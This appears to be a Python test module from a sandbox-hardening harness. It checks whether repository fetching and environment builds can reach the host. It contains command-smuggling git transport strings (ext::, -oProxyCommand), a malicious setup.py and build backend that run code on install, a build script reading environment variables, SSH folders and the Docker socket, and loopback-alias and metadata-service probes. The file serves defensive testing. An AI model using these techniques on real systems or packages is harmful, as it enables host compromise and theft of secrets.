"""Attacks while a repository is read or an environment is built: row 19.

Invariant: only a program that runs on the host, or a build that reaches it, can create the canary file.
"""

from __future__ import annotations

import io
import os
import shlex
import socket
import tarfile
from pathlib import Path

from selfplay.attacks.base import Attack, Broken, Held, Outcome
from selfplay.attacks.ground import Ground
from selfplay.attacks.probes import METADATA_SERVICE, listening, own_addresses, ran
from selfplay.errors import EnvironmentBuildError, SandboxUnavailable, SelfplayError
from selfplay.repositories.archives import read_archive
from selfplay.repositories.dependencies import read_dependencies
from selfplay.repositories.fetching import fetch
from selfplay.repositories.licences import licence_of
from selfplay.repositories.specs import parse_spec
from selfplay.source.trees import Tree

TRANSPORTS = (
    "ext::sh -c touch% {canary}",
    "git+ext::sh -c touch% {canary}",
    "https://-oProxyCommand=touch {canary}/x",
    "git://127.0.0.1/x",
)


def obtain(line: str, cache: Path) -> Tree:
    return fetch(parse_spec(line), cache).tree


def fetch_by_a_program(ground: Ground) -> Outcome:
    canary = ground.canary("transport-ran")
    for line in TRANSPORTS:
        try:
            obtain(shlex.quote(line.format(canary=canary)), ground.folder("cache"))
        except SelfplayError:
            continue
        return Broken(f"{line} was fetched")
    return ran(canary, "a transport")


def run_a_setup_script(ground: Ground) -> Outcome:
    canary = ground.canary("setup-ran")
    program = f"open({str(canary)!r}, 'w').close()\n"
    files = {
        "evil-1.0/setup.py": f"{program}from setuptools import setup\nsetup(name='evil')\n",
        "evil-1.0/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            '[project]\nname = "evil"\n'
        ),
        "evil-1.0/backend.py": program,
        "evil-1.0/conftest.py": program,
        "evil-1.0/evil/__init__.py": f"{program}__version__ = '1.0'\n",
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, io.BytesIO(text.encode()))
    read_a_release("evil-1.0.tar.gz", out.getvalue())
    return ran(canary, "reading a release")


def read_a_release(name: str, data: bytes) -> None:
    """Everything that the harness does on the host with a release's archive."""
    tree = read_archive(name, data).tree
    licence_of(tree)
    read_dependencies(tree, "evil")


def attack_from_a_build(ground: Ground) -> Outcome:
    """An install script looks for this machine's files, variables and sockets in the sandbox of a build."""
    secret, canary = ground.canary("build-secret.txt"), ground.canary("build-ran")
    secret.write_text("stolen from the host")
    secret.chmod(0o644)
    script = (
        f"cat {secret} /proc/1/root{secret}; touch {canary} /proc/1/root{canary}; "
        "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep ATTACK_TOKEN; "
        "ls /var/run/docker.sock && echo 'stolen socket'; "
        "ls -A /root /home/*/.ssh && echo 'stolen homes'; exit 3"
    )
    os.environ["SELFPLAY_ATTACK_TOKEN"] = "stolen variable"
    log = ground.scratch / "build.log"
    try:
        ground.backend.build_environment("attack", script, 300, log)
    except EnvironmentBuildError:
        said = log.read_text(errors="replace") if log.exists() else ""
        return (
            Broken(said[-200:])
            if "stolen" in said or canary.exists()
            else Held("nothing of the host is there")
        )
    finally:
        del os.environ["SELFPLAY_ATTACK_TOKEN"]
    return Broken("a failing build was kept")


# A build backend in the package's own folder. pip runs it, as it runs the backend of any source distribution.
BACKEND = """
import json, os, socket

def call(place, ask=b''):
    try:
        with socket.create_connection(place, 2) as there:
            there.sendall(ask)
            return there.recv(1000) if ask else b'reached'
    except OSError as error:
        return str(error).encode()

def build_wheel(folder, settings=None, metadata=None):
    ports = {ports}
    for port in ports:
        for host in {hosts}:
            print('calling', host, port, call((host.strip('[]'), port)), flush=True)
            url = os.environ.get('https_proxy', '').rpartition(':')[2]
            if url:
                for ask in (f'CONNECT {{host}}:{{port}} HTTP/1.1', f'GET http://{{host}}:{{port}}/ HTTP/1.1'):
                    answer = call(('127.0.0.1', int(url)), ask.encode() + bytes([13, 10, 13, 10]))
                    print('asking', ask, answer, flush=True)
    raise SystemExit('no wheel')

build_editable = prepare_metadata_for_build_wheel = build_wheel
get_requires_for_build_wheel = lambda settings=None: []
"""
PROJECT = (
    '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    '[project]\nname = "heron"\nversion = "1"\n'
)
# Other names of the loopback address: a filter that compares texts lets them through.
LOOPBACK = (
    "localhost",
    "0.0.0.0",
    "127.1",
    "2130706433",
    "0x7f000001",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "localhost.",
    "127.0.0.1.",
)


def call_from_a_build(ground: Ground) -> Outcome:
    """A build backend calls a service of this machine, directly and through the way to the package index."""
    with listening(socket.AF_INET, ("0.0.0.0", 0)) as (listener, callers):
        port = listener.getsockname()[1]
        backend = BACKEND.format(ports=[port], hosts=[*own_addresses(), *LOOPBACK, METADATA_SERVICE[0]])
        script = (
            f"mkdir heron; cd heron; printf %s {shlex.quote(PROJECT)} > pyproject.toml; "
            f"printf %s {shlex.quote(backend)} > backend.py; "
            "/opt/env/bin/python -m pip install -v --no-deps --no-index --no-build-isolation . ; exit 3"
        )
        log = ground.scratch / "build-calls.log"
        try:
            ground.backend.build_environment("attack-calls", script, 300, log)
        except EnvironmentBuildError as error:
            said = log.read_text(errors="replace") if log.exists() else str(error)
        else:
            return Broken("a failing build was kept")
    if callers:
        return Broken(f"a service of this machine was called: {callers[0]}")
    if "calling 127.0.0.1" not in said:
        raise SandboxUnavailable(f"the build backend did not run: {said[-200:]}")
    return Held("no call arrived")


ATTACKS = (
    Attack(
        "transports",
        19,
        "a repository line whose transport runs a program (ext::, -oProxyCommand)",
        fetch_by_a_program,
    ),
    Attack(
        "setup-script",
        19,
        "a release whose setup.py and build backend run programs when it is read",
        run_a_setup_script,
    ),
    Attack(
        "build-calls",
        19,
        "a build backend that calls a service on the host's loopback interface",
        call_from_a_build,
    ),
    Attack(
        "build-script",
        19,
        "an install script that reads the host's files, variables and sockets",
        attack_from_a_build,
    ),
)
